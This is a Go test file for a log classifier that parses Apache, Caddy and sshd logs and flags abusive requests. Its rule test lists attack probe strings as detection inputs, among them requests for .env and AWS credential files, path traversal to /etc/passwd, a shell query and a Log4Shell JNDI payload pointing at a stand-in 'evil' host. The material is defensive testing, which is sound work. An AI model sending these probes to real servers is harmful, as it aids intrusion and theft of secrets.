package classify

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func accessLine(addr, request string) string {
	return addr + ` - - [10/Oct/2024:13:55:36 +0000] "` + request + `" 404 196 "-" "Mozilla/5.0"`
}

func TestParseAccessLog(t *testing.T) {
	tests := []struct {
		name string
		line string
		want WebEvent
	}{
		{"combined", accessLine("1.2.3.4", "GET /.env HTTP/1.1"), WebEvent{Addr: "1.2.3.4", Target: "/.env"}},
		{"common", `5.6.7.8 - frank [10/Oct/2024:13:55:36 -0700] "POST /login HTTP/1.0" 200 2326`, WebEvent{Addr: "5.6.7.8", Target: "/login"}},
		{"ipv6", accessLine("2001:db8::7", "GET /index.html HTTP/2.0"), WebEvent{Addr: "2001:db8::7", Target: "/index.html"}},
		{"http 0.9", accessLine("1.2.3.4", "GET /"), WebEvent{Addr: "1.2.3.4", Target: "/"}},
		{"empty request", accessLine("1.2.3.4", "-"), WebEvent{Addr: "1.2.3.4", Malformed: true}},
		{"tls on plaintext", accessLine("1.2.3.4", `\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03`), WebEvent{Addr: "1.2.3.4", Malformed: true}},
		{"lowercase method", accessLine("1.2.3.4", "get / HTTP/1.1"), WebEvent{Addr: "1.2.3.4", Malformed: true}},
		{"bad protocol", accessLine("1.2.3.4", "GET / FTP"), WebEvent{Addr: "1.2.3.4", Malformed: true}},
		{"unstructured", "9.9.9.9 something odd happened", WebEvent{Addr: "9.9.9.9", Malformed: true}},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev, err := ParseAccessLog(tt.line)
			require.NoError(t, err)
			assert.Equal(t, tt.want, ev)
		})
	}
}

func TestParseAccessLogWithoutToken(t *testing.T) {
	for _, line := range []string{"", "   ", "\t"} {
		_, err := ParseAccessLog(line)
		assert.ErrorIs(t, err, ErrUnparsable)
	}
}

func TestParseCaddyLog(t *testing.T) {
	tests := []struct {
		name string
		line string
		want WebEvent
	}{
		{
			"client ip preferred",
			`{"level":"info","request":{"client_ip":"1.2.3.4","remote_ip":"10.0.0.1","method":"GET","uri":"/.git/config"}}`,
			WebEvent{Addr: "1.2.3.4", Target: "/.git/config"},
		},
		{
			"remote ip fallback",
			`{"request":{"remote_ip":"5.6.7.8","method":"GET","uri":"/"}}`,
			WebEvent{Addr: "5.6.7.8", Target: "/"},
		},
		{
			"remote addr fallback",
			`{"request":{"remote_addr":"[2001:db8::1]:443","method":"GET","uri":"/a"}}`,
			WebEvent{Addr: "2001:db8::1", Target: "/a"},
		},
		{
			"missing uri",
			`{"request":{"client_ip":"5.6.7.8","method":"GET"}}`,
			WebEvent{Addr: "5.6.7.8", Malformed: true},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev, err := ParseCaddyLog(tt.line)
			require.NoError(t, err)
			assert.Equal(t, tt.want, ev)
		})
	}

	for _, line := range []string{"not json", `{"msg":"handled request"}`, ""} {
		_, err := ParseCaddyLog(line)
		assert.ErrorIs(t, err, ErrUnparsable, line)
	}
}

func TestParseAuthLog(t *testing.T) {
	tests := []struct {
		name string
		line string
		want Event
	}{
		{
			"failed password for invalid user",
			"Oct 10 13:55:36 web sshd[1234]: Failed password for invalid user admin from 10.0.0.5 port 51515 ssh2",
			AuthEvent{Addr: "10.0.0.5", Signal: FailedPassword},
		},
		{
			"failed password",
			"Oct 10 13:55:36 web sshd[1234]: Failed password for root from 2001:db8::9 port 22 ssh2",
			AuthEvent{Addr: "2001:db8::9", Signal: FailedPassword},
		},
		{
			"invalid user",
			"Oct 10 13:55:36 web sshd[99]: Invalid user oracle from 192.168.1.9 port 4242",
			AuthEvent{Addr: "192.168.1.9", Signal: InvalidUser},
		},
		{
			"address at end of line",
			"Oct 10 13:55:36 web sshd[99]: Invalid user oracle from 192.168.1.9",
			AuthEvent{Addr: "192.168.1.9", Signal: InvalidUser},
		},
		{
			"user name containing from",
			"Oct 10 13:55:36 web sshd[99]: Invalid user x from 6.6.6.6 from 1.2.3.4 port 22",
			AuthEvent{Addr: "1.2.3.4", Signal: InvalidUser},
		},
		{
			"connection closed",
			"Oct 10 13:55:36 web sshd[99]: Connection closed by 1.2.3.4 port 22 [preauth]",
			nil,
		},
		{
			"pam banner",
			"Oct 10 13:55:36 web sshd[99]: pam_unix(sshd:auth): authentication failure; logname= uid=0 rhost=1.2.3.4",
			nil,
		},
		{
			"not sshd",
			"Oct 10 13:55:36 web sudo: Failed password for bob from 1.2.3.4 port 22",
			nil,
		},
		{
			"no address",
			"Oct 10 13:55:36 web sshd[99]: Failed password for bob from somewhere port 22",
			nil,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev, err := ParseAuthLog(tt.line)
			require.NoError(t, err)
			assert.Equal(t, tt.want, ev)
		})
	}
}

func TestDefaultRulesMatch(t *testing.T) {
	abusive := []string{
		"/.env",
		"/.env.local",
		"/app/.git/config",
		"/.aws/credentials",
		"/index.php",
		"/index.php?page=1",
		"/admin/login.aspx",
		"/struts/login.jsp;jsessionid=1",
		"/backup.zip",
		"/db.sql",
		"/cgi-bin/luci",
		"/wp-login.php",
		"/wp-admin/",
		"/solr/admin/info",
		"/actuator/health",
		"/_profiler/phpinfo",
		"/geoserver/web",
		"/phpmyadmin",
		"/console",
		"/console/x",
		"/CONSOLE/X",
		"//console",
		"/shell?cd+/tmp",
		"/api/query?sql=1",
		"/?XDEBUG_SESSION_START=phpstorm",
		"/%2e%65nv",
		"/static/..%2f..%2fetc/passwd",
		"http://example.com/.env",
		"/?x=${jndi:ldap://evil/a}",
	}
	for _, target := range abusive {
		_, ok := DefaultRules().Match(target)
		assert.True(t, ok, target)
	}

	benign := []string{
		"",
		"/",
		"/index.html",
		"/search?q=php",
		"/php/manual",
		"/docs/php-guide.html",
		"/consolex",
		"/solrx",
		"/style.css",
		"/.well-known/acme-challenge/abc",
		"/images/logo.png?v=2",
		"/blog/shell-scripting",
	}
	for _, target := range benign {
		_, ok := DefaultRules().Match(target)
		assert.False(t, ok, target)
	}
}

func TestMatchReportsRuleName(t *testing.T) {
	name, ok := DefaultRules().Match("/.env")
	require.True(t, ok)
	assert.Equal(t, "secret-file", name)

	name, ok = DefaultRules().Match("/console")
	require.True(t, ok)
	assert.Equal(t, "sensitive-prefix", name)
}

func TestLoadRulesFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "rules.yaml")
	data := `
deny:
  - name: hidden-area
    pattern: '^/hidden(/|$)'
    scope: path
  - name: broken
    pattern: '(['
  - name: disabled
    pattern: '^/about'
    enabled: false
allow:
  - name: sitemap
    pattern: '^/sitemap\.xml$'
    scope: path
`
	require.NoError(t, os.WriteFile(path, []byte(data), 0644))

	rs, err := LoadRulesFile(path)
	require.NoError(t, err)
	assert.Equal(t, DefaultRules().Len()+1, rs.Len())

	name, ok := rs.Match("/hidden/door")
	assert.True(t, ok)
	assert.Equal(t, "hidden-area", name)

	_, ok = rs.Match("/about")
	assert.False(t, ok)

	_, ok = rs.Match("/sitemap.xml")
	assert.False(t, ok, "allow rule wins")
	_, ok = DefaultRules().Match("/sitemap.xml")
	assert.True(t, ok)

	_, ok = rs.Match("/.env")
	assert.True(t, ok, "built-in rules stay active")
}

func TestLoadRulesFileErrors(t *testing.T) {
	_, err := LoadRulesFile(filepath.Join(t.TempDir(), "missing.yaml"))
	assert.Error(t, err)

	path := filepath.Join(t.TempDir(), "bad.yaml")
	require.NoError(t, os.WriteFile(path, []byte("deny: [unterminated"), 0644))
	_, err = LoadRulesFile(path)
	assert.Error(t, err)
}

func TestParseSource(t *testing.T) {
	tests := []struct {
		entry  string
		format Format
		path   string
		prefix string
	}{
		{"/var/log/auth.log", FormatSSH, "/var/log/auth.log", "SSH"},
		{"/var/log/secure", FormatSSH, "/var/log/secure", "SSH"},
		{"/var/log/caddy/access.json", FormatCaddy, "/var/log/caddy/access.json", "CADDY"},
		{"/var/log/apache2", FormatApache, "/var/log/apache2", "APACHE"},
		{"ssh:/var/log/custom.log", FormatSSH, "/var/log/custom.log", "SSH"},
		{" caddy: /srv/logs ", FormatCaddy, "/srv/logs", "CADDY"},
		{"nginx:/var/log/nginx/access.log", FormatApache, "/var/log/nginx/access.log", "APACHE"},
	}

	for _, tt := range tests {
		t.Run(tt.entry, func(t *testing.T) {
			src, err := ParseSource(tt.entry, nil)
			require.NoError(t, err)
			assert.Equal(t, tt.format, src.Format)
			assert.Equal(t, tt.path, src.Path)
			assert.Equal(t, tt.prefix, src.Prefix())
		})
	}

	for _, entry := range []string{"", "bogus:/var/log/x", "ssh:"} {
		_, err := ParseSource(entry, nil)
		assert.Error(t, err, entry)
	}
}

func TestSourceClassify(t *testing.T) {
	web := Source{Format: FormatApache}
	ssh := Source{Format: FormatSSH}

	ev, err := web.Parse(accessLine("1.2.3.4", "GET /.env HTTP/1.1"))
	require.NoError(t, err)
	assert.True(t, web.IsAbusive(ev))

	ev, err = web.Parse(accessLine("1.2.3.4", "GET /index.html HTTP/1.1"))
	require.NoError(t, err)
	assert.False(t, web.IsAbusive(ev))

	ev, err = web.Parse(accessLine("1.2.3.4", "GET /search?q=php HTTP/1.1"))
	require.NoError(t, err)
	assert.False(t, web.IsAbusive(ev))

	ev, err = web.Parse(accessLine("1.2.3.4", "-"))
	require.NoError(t, err)
	reason, bad := web.Classify(ev)
	assert.True(t, bad)
	assert.Equal(t, "malformed-request", reason)

	ev, err = ssh.Parse("Oct 10 13:55:36 web sshd[1234]: Failed password for invalid user admin from 10.0.0.5 port 51515 ssh2")
	require.NoError(t, err)
	require.NotNil(t, ev)
	assert.Equal(t, "10.0.0.5", ev.Address())
	assert.True(t, ssh.IsAbusive(ev))
}

func TestSelfTest(t *testing.T) {
	input := strings.Join([]string{
		accessLine("1.2.3.4", "GET /.env HTTP/1.1"),
		accessLine("1.2.3.4", "GET /index.html HTTP/1.1"),
		"",
		accessLine("5.6.7.8", "-"),
	}, "\n") + "\n"

	var out bytes.Buffer
	rep, err := SelfTest(Source{Format: FormatApache}, strings.NewReader(input), &out, true, true)
	require.NoError(t, err)

	assert.Equal(t, Report{Total: 4, Matched: 2, Missed: 1, Failed: 1}, rep)
	assert.Contains(t, out.String(), "[MATCHED] 1.2.3.4")
	assert.Contains(t, out.String(), "[MISSED] 1.2.3.4")
	assert.Contains(t, out.String(), "[FAILED TO PARSE] \n")
	assert.Contains(t, out.String(), "Processed 4, matched 2, missed 1, failed to parse 1 lines.")
}

func TestSelfTestQuiet(t *testing.T) {
	input := accessLine("1.2.3.4", "GET /.env HTTP/1.1") + "\n"

	var out bytes.Buffer
	rep, err := SelfTest(Source{Format: FormatApache}, strings.NewReader(input), &out, false, false)
	require.NoError(t, err)
	assert.Equal(t, 1, rep.Matched)
	assert.NotContains(t, out.String(), "[MATCHED]")
}
